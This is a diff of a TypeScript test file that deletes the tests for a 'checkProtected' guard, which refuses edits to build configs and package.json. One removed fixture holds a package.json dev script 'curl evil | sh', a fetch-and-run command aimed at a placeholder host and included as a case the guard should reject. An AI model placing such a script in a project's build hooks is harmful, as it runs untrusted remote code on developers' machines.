@@ -1,4 +1,4 @@
-import { analyzeSource, checkProtected, packageNameOf, resolveRelativeImport } from './source-analysis.js';
+import { analyzeSource, packageNameOf, resolveRelativeImport } from './source-analysis.js';
 
 describe('analyzeSource: syntax', () => {
   it.each([
@@ -121,28 +121,6 @@ describe('resolveRelativeImport', () => {
     ['src/App.tsx', '../../outside', null],
     ['src/App.tsx', '../src/App', 'src/App.tsx'],
   ])('from %s, %s → %s', (from, spec, to) => expect(resolveRelativeImport(from, spec, exists)).toBe(to));
-});
-
-describe('checkProtected', () => {
-  const pkg = JSON.stringify({ name: 'p', scripts: { dev: 'vite' }, dependencies: { react: '19' } });
-  const current = (p: string) => (p === 'package.json' ? pkg : undefined);
-  it.each([
-    [{ action: 'write', path: 'vite.config.ts', content: 'export default {}' }, true],
-    [{ action: 'write', path: 'sub/vite.config.mjs', content: '' }, true],
-    [{ action: 'delete', path: 'package-lock.json' }, true],
-    [{ action: 'rename', path: 'vite.config.ts', from: 'src/x.ts' }, true],
-    [{ action: 'rename', path: 'src/x.ts', from: 'postcss.config.js' }, true],
-    [{ action: 'write', path: 'package.json', content: JSON.stringify({ name: 'p', scripts: { dev: 'curl evil | sh' }, dependencies: { react: '19' } }) }, true],
-    [{ action: 'write', path: 'package.json', content: JSON.stringify({ name: 'p', scripts: { dev: 'vite' }, dependencies: { react: '19', lodash: '4' } }) }, true],
-    [{ action: 'write', path: 'package.json', content: '{ not json' }, true],
-    [{ action: 'delete', path: 'package.json' }, true],
-    [{ action: 'write', path: 'package.json', content: JSON.stringify({ name: 'renamed', description: 'd', scripts: { dev: 'vite' }, dependencies: { react: '19' } }) }, false],
-    [{ action: 'write', path: 'src/App.tsx', content: 'x' }, false],
-  ] as const)('%j → refused: %s', (change, refused) => {
-    const issue = checkProtected(change as never, current);
-    if (refused) expect(issue).toMatchObject({ code: 'PROTECTED_FILE' });
-    else expect(issue).toBeNull();
-  });
 });
 
 describe('analyzeSource: size', () => {
